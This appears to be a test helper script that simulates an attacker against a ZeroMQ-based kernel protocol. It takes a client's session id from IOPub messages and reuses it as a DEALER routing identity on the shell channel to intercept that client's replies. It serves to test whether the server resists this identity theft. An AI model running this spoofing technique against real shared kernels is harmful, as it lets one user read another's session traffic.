"""The identity thief of TestStolenIdentity, on pyzmq (libzmq), as an
attacker without the key would be.

  python3 steal.py IOPUB_URL SHELL_URL SECONDS

Reads a client's session id from the parent_header of any IOPub message,
connects a DEALER to shell with that routing identity, counts what it
receives for SECONDS and prints {"session": ..., "received": N}.
"""
import json
import sys
import time

import zmq

iopub_url, shell_url, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
ctx = zmq.Context()
sub = ctx.socket(zmq.SUB)
sub.setsockopt(zmq.SUBSCRIBE, b"")
sub.connect(iopub_url)
session = None
deadline = time.time() + 20
while session is None and time.time() < deadline:
    if not sub.poll(1000):
        continue
    frames = sub.recv_multipart()
    i = frames.index(b"<IDS|MSG>")
    parent = json.loads(frames[i + 3])
    session = parent.get("session") or None
if session is None:
    sys.exit("no session id seen on IOPub")

thief = ctx.socket(zmq.DEALER)
thief.setsockopt(zmq.IDENTITY, session.encode())
thief.connect(shell_url)
received = 0
end = time.time() + seconds
while time.time() < end:
    if thief.poll(100):
        thief.recv_multipart()
        received += 1
print(json.dumps({"session": session, "received": received}))
sub.close(0)
thief.close(0)
ctx.term()
